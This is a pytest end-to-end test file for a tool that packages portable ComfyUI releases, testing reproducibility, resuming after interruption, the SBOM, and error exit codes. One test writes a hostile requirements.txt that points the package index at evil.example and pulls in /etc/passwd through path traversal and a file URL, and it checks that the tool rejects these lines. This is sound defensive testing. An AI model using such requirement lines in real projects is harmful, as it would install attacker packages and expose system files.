"""The road end to end: built, reused, reproduced, interrupted, refused."""

from __future__ import annotations

import hashlib
import json
import os
import platform
import signal
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from packager import resources
from packager.archive.checksums import read_checksums

from .conftest import Built, Packager, write_app, write_recipe

pytestmark = pytest.mark.e2e


SIGNALS = (signal.SIGKILL, signal.SIGINT)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_build_leaves_the_release_files_and_says_what_it_did(built: Built) -> None:
    result = built.result
    names = sorted(path.name for path in built.zip.parent.iterdir())
    stem = built.zip.stem
    assert names == sorted(
        [
            "SHA256SUMS",
            *(
                f"{stem}{suffix}"
                for suffix in (
                    ".zip",
                    ".lock.json",
                    ".manifest.json",
                    ".sbom.cdx.json",
                    ".report.json",
                    ".report.html",
                )
            ),
        ]
    )
    assert result["proof"]["passed"]
    assert len(result["proof"]["checks"]) > 10
    assert result["size"]["archive"] == built.zip.stat().st_size
    assert result["size"]["after"] < result["size"]["before"]
    assert result["files"]["after"] < result["files"]["before"]
    assert result["stages"][0]["name"] == "resolve"
    subprocess.run(["sha256sum", "--check", "--strict", "SHA256SUMS"], cwd=built.zip.parent, check=True)
    assert sorted(read_checksums(built.zip.parent / "SHA256SUMS")) == [name for name in names if name != "SHA256SUMS"]


def test_archive_has_one_root_and_what_the_user_needs(built: Built) -> None:
    with zipfile.ZipFile(built.zip) as archive:
        names = archive.namelist()
    root = built.result["root"]
    assert {name.split("/")[0] for name in names} == {root}
    for wanted in (
        "README.txt",
        "run_comfyui.sh",
        "install_package.sh",
        "manage.sh",
        "ComfyUI/main.py",
        "python/bin/python",
    ):
        assert f"{root}/{wanted}" in names
    assert not [name for name in names if "/.git/" in name]
    assert not [name for name in names if name.count("/") == 1 and name.endswith(".bat")]


def test_sbom_and_licence_texts_of_all_that_is_in_it(built: Built) -> None:
    beside = built.zip.with_name(f"{built.zip.stem}.sbom.cdx.json")
    root = built.result["root"]
    with zipfile.ZipFile(built.zip) as archive:
        assert archive.read(f"{root}/portable/sbom.cdx.json") == beside.read_bytes()
        listing = archive.read(f"{root}/licenses/README.txt").decode()
        names = set(archive.namelist())
        lock = archive.read(f"{root}/portable/lock.txt").decode().split()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(beside.read_text()) is None
    document = json.loads(beside.read_text())
    purls = {component["purl"] for component in document["components"]}
    assert {f"pkg:pypi/{pin.replace('==', '@')}" for pin in lock} <= purls
    assert f"pkg:generic/python@{platform.python_version()}" in purls
    assert f"{root}/licenses/python-{platform.python_version()}/LICENSE.txt" in names
    assert "NO TEXT FOUND" in listing  # the embedded example has no licence file of its own
    numpy = next(item for item in document["components"] if item["name"] == "numpy")
    assert f"{root}/licenses/numpy-{numpy['version']}/LICENSE.txt" in names


def test_second_run_reuses_every_stage(built: Built) -> None:
    before = sha256(built.zip)
    again = built.packager.build()
    assert all(stage["reused"] for stage in again["stages"]), again["stages"]
    assert sha256(built.zip) == before


def test_another_folder_umask_date_and_thread_count_give_the_same_bytes(built: Built, tmp_path: Path) -> None:
    lock = built.packager.folder / "work" / "lock.json"
    other = Packager(folder=tmp_path / "elsewhere with space")
    other.folder.mkdir()
    words = other.command("build", "quickstart", "-o", "dist", "--work", "w", "--lock", lock, "--json")
    words += ["--no-prove", "--no-oracle"]  # what the oracle found in the first build is nothing
    words += ["--format", "zip", "--format", "tar.zst", "--format", "dir"]
    # site.py reads the .pth of an editable install in the locale's encoding: it ends there if a letter is not in it.
    locale = "C" if str(resources.data_root()).isascii() else "C.UTF-8"
    done = subprocess.run(
        ["sh", "-c", 'umask 077; exec "$@"', "sh", *words],
        cwd=other.folder,
        env={**os.environ, "TZ": "Asia/Tokyo", "LC_ALL": locale},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    dist = other.folder / "dist"
    assert sha256(dist / built.zip.name) == sha256(built.zip)
    for name in (f"{built.zip.stem}.tar.zst", built.zip.stem):
        assert (dist / name).exists()
    manifest = json.loads((dist / f"{built.zip.stem}.manifest.json").read_text())
    assert manifest["packing"].startswith("deflate"), "the manifest beside them is not the zip's"


def stage_under_way(journal: Path, *, since: int) -> str | None:
    """The stage that the journal has as started and not done, if it was written after `since` (its st_mtime_ns)."""
    if written(journal) == since:
        return None
    stages = json.loads(journal.read_text())["stages"]
    return next((name for name, stage in stages.items() if not stage.get("done")), None)


def written(journal: Path) -> int:
    return journal.stat().st_mtime_ns if journal.exists() else 0


def test_stopped_in_each_stage_it_resumes_to_the_same_bytes(built: Built, tmp_path: Path) -> None:
    """kill -9, then Ctrl-C in every stage, each time run again: nothing is lost, nothing differs."""
    other = Packager(folder=tmp_path)
    lock = built.packager.folder / "work" / "lock.json"
    command = other.command("build", "quickstart", "-o", "dist", "--work", "work", "--lock", lock, "--json")
    stopped: set[tuple[signal.Signals, str]] = set()
    journal = tmp_path / "work" / "journal.json"
    for _ in range(40):
        before, number = written(journal), None
        process = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        while process.poll() is None and number is None:
            stage = stage_under_way(journal, since=before)
            if number := next((n for n in SIGNALS if stage and (n, stage) not in stopped), None):
                time.sleep(0.05)  # into the stage, not before its first step
                process.send_signal(number)
            time.sleep(0.01)
        output, errors = process.communicate(timeout=600)
        if process.returncode == 0:
            break
        assert number is not None, errors
        stopped.add((number, stage_under_way(journal, since=0) or "between two stages"))
        assert process.returncode == (130 if number == signal.SIGINT else -number), errors
        if number == signal.SIGINT:
            assert json.loads(output)["exit_code"] == 130
        is_proved = json.loads(journal.read_text())["stages"].get("prove", {}).get("done")
        assert is_proved or not list((tmp_path / "dist").glob("*.zip")), "an unproved archive is in the output folder"
    assert process.returncode == 0, errors
    for number in SIGNALS:
        stages = {stage for sent, stage in stopped if sent == number}
        assert {"provision", "install", "clean", "relocate", "archive", "prove"} <= stages, number
    assert sha256(tmp_path / json.loads(output)["archives"][0]) == sha256(built.zip)


def test_dry_run_changes_nothing(packager: Packager) -> None:
    done = packager.run("build", "quickstart", "--dry-run", "-o", "dist", "--work", "work")
    assert done.returncode == 0, done.stderr
    assert "aiohttp==" in done.stdout
    assert not (packager.folder / "dist").exists()
    assert not (packager.folder / "work" / "bundle").exists()


def test_node_that_fails_to_import_stops_the_release(packager: Packager, tmp_path: Path) -> None:
    node = write_app(tmp_path / "broken-node", {"__init__.py": "import a_module_that_is_nowhere\n"})
    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "-o", "dist", "--work", "work")
    assert done.returncode == 5
    assert "broken-node" in done.stderr
    assert "a_module_that_is_nowhere" in done.stderr
    assert not list((tmp_path / "dist").glob("*"))


def test_install_script_that_fails_is_reported_by_node(packager: Packager, tmp_path: Path) -> None:
    node = write_app(
        tmp_path / "fussy", {"__init__.py": "NODE_CLASS_MAPPINGS = {}\n", "install.py": "raise SystemExit('no luck')\n"}
    )
    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "-o", "dist", "--work", "work", "--no-prove")
    assert done.returncode == 0, done.stderr
    assert "fussy: install.py exited with 1: no luck" in done.stderr


def test_requirements_of_a_hostile_node_are_left_out_loudly(packager: Packager, tmp_path: Path) -> None:
    node = write_app(tmp_path / "hostile", {"__init__.py": "NODE_CLASS_MAPPINGS = {}\n"})
    (node / "requirements.txt").write_bytes(
        "--index-url https://evil.example/simple\n-r ../../etc/passwd\nx @ file:///etc/passwd\nidna\n".encode("utf-16")
    )
    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "--dry-run", "--work", "work")
    assert done.returncode == 0, done.stderr
    assert "hostile/requirements.txt:1: left out '--index-url https://evil.example/simple'" in done.stderr
    assert "hostile/requirements.txt:2: left out '-r ../../etc/passwd'" in done.stderr
    assert "hostile/requirements.txt:3: left out 'x @ file:///etc/passwd'" in done.stderr
    assert "idna==" in done.stdout


@pytest.mark.parametrize(
    ("lines", "code", "expected"),
    [
        (["python: '2.7'"], 2, "2.7"),
        (["python_packages: ['a-package-that-does-not-exist-anywhere==99']"], 4, "a-package-that-does-not-exist"),
        (["python_packages: ['numpy==1.26.4', 'numpy==2.1.0']"], 4, "numpy"),
        (["accelerator: abacus"], 2, "unknown accelerator"),
        (["cleanup: {opt_in: [no-such-rule]}"], 2, "no-such-rule"),
    ],
)
def test_wish_that_cannot_be_met_has_its_own_exit_code(
    packager: Packager, tmp_path: Path, lines: list[str], code: int, expected: str
) -> None:
    done = packager.run("build", write_recipe(tmp_path, *lines), "-o", "dist", "--work", "work")
    assert done.returncode == code, done.stderr
    assert expected in done.stderr
    assert not (tmp_path / "dist").exists()


def test_unreachable_host_is_one_clear_error_with_the_ways_out(packager: Packager) -> None:
    environ = {"https_proxy": "http://127.0.0.1:9", "HTTPS_PROXY": "http://127.0.0.1:9"}
    environ["PACKAGER_CACHE_DIR"] = str(packager.folder / "cache")
    done = packager.run("build", "comfyui", "--work", "work", env=environ)
    assert done.returncode == 3
    assert "--mirror" in done.stderr
    assert "--source" in done.stderr
    assert "Traceback" not in done.stderr


def test_app_that_is_no_comfyui_is_refused(packager: Packager, tmp_path: Path) -> None:
    app = write_app(tmp_path / "app", {"readme.md": "x"})
    done = packager.run("build", "quickstart", "--source", f"ComfyUI={app}", "-o", "dist", "--work", "work")
    assert done.returncode == 2
    assert "holds no main.py" in done.stderr


def test_source_for_a_repository_the_recipe_does_not_name(packager: Packager) -> None:
    done = packager.run("build", "quickstart", "--source", "typo=/tmp", "--work", "work")
    assert done.returncode == 2
    assert "no repository 'typo'" in done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small tmpfs needs root")
@pytest.mark.parametrize("full", ["work", "dist"])
def test_full_disk_is_a_clear_error_and_leaves_no_archive(built: Built, packager: Packager, full: str) -> None:
    mounted = packager.folder / full
    mounted.mkdir()
    size = "40m" if full == "work" else "2m"
    mount = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", mounted], check=False)
    if mount.returncode:
        pytest.skip("this sandbox may not mount a tmpfs")
    try:
        done = packager.run("build", "quickstart", "-o", "dist", "--work", "work", "--no-prove")
        assert done.returncode == 1, done.stderr
        assert "no space left" in done.stderr.lower()
        assert "Traceback" not in done.stderr
        assert not list((packager.folder / "dist").glob("*.zip"))
    finally:
        subprocess.run(["umount", "-l", mounted], check=True)
